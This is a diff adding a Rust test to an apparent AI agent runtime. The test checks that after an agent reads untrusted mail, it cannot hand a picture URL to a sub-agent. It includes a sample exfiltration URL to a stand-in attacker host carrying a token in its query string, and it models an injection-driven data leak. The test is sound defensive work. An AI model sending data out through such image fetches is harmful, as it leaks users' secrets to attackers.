@@ -377,6 +377,47 @@ async fn a_called_agent_inherits_the_taint_and_the_strictness_of_its_caller() {
     }
 }
 
+/// The provider of a called agent fetches a picture by its address.
+#[tokio::test]
+async fn after_words_of_strangers_no_address_of_a_picture_is_passed_to_an_agent() {
+    let desk = agent! {
+        tools: [read_mail],
+        [desk:Agent {instruction: "Help.", model: "Scripted/any", whenTainted: "deny"} |
+            readMail,
+            [look:Agent {
+                description: "Describes pictures", instruction: "Describe.", model: "Scripted/any"
+            } | (pictures::Parts)==>(::String)]]
+    };
+    let address =
+        r#"{"pictures": [{"type": "image", "url": "https://eve.example/x.png?d=token"}]}"#;
+    let file = r#"{"pictures": [{"type": "image", "fileId": "file-1", "provider": "OpenAI"}]}"#;
+    let bytes = r#"{"pictures": [{"type": "image", "mediaType": "image/png", "data": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}]}"#;
+    let read = calls(&[("r", "readMail", MAIL_1)]);
+    for (is_read, pictures, is_made) in [
+        (false, address, true),
+        (true, address, false),
+        (true, file, false),
+        (true, bytes, true),
+    ] {
+        let mut replies = vec![calls(&[("l", "look", pictures)]), ModelReply::text("Done.")];
+        if is_read {
+            replies.insert(0, read.clone());
+        }
+        let scripted = Scripted::new(replies).agent("look", [ModelReply::text("A cat.")]);
+        let response = Runtime::with_model(scripted)
+            .run(&desk, "Hi")
+            .tools(&tools![read_mail])
+            .await
+            .expect("an answer");
+        let looked = response.tools_used.iter().find(|used| used.tool == "look");
+        let result = &looked.expect("a call").result;
+        assert_eq!(result.is_ok(), is_made, "{pictures}: {result:?}");
+        if let Err(error) = result {
+            assert!(error.to_string().contains("words of strangers"), "{error}");
+        }
+    }
+}
+
 #[tokio::test]
 async fn the_reason_why_a_tainted_agent_failed_is_not_passed_on() {
     let failing = Scripted::new([
